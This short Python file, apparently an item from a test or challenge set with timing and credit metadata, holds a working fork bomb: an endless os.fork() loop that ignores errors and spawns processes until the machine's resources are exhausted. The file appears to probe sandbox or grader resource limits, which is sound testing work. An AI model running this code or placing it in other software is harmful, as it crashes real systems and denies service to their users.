# A fork bomb, and threads until there are no more.
# set: 06_perplexity
# others: model
# seconds: 3
# credit: nothing
# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
